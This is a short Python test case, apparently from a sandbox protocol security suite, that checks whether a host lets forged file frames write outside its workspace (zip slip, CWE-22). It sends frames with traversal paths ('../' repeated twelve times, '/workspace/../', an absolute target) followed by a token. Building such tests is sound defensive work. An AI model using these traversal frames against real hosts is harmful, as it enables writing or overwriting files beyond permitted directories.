# id: proto-forge-file-traversal
# category: protocol
# description: file frames whose paths climb out of the workspace: ../, absolute OUT, /workspace/../
# source: path traversal in archive/file protocols (zip slip, CWE-22)
# detect: token (the host writes the token to OUT)
import json
import os
import struct


def frame(obj, fd=4):
    data = json.dumps(obj).encode() if not isinstance(obj, bytes) else obj
    os.write(fd, struct.pack('>I', len(data)) + data)

data = TOKEN.encode()
depth = '../' * 12
for path in (OUT, depth + OUT.lstrip('/'), '/workspace/../' + OUT.lstrip('/'), 'collected/' + depth + OUT.lstrip('/')):
    frame({'t': 'file', 'path': path, 'size': len(data)})
    os.write(4, data)
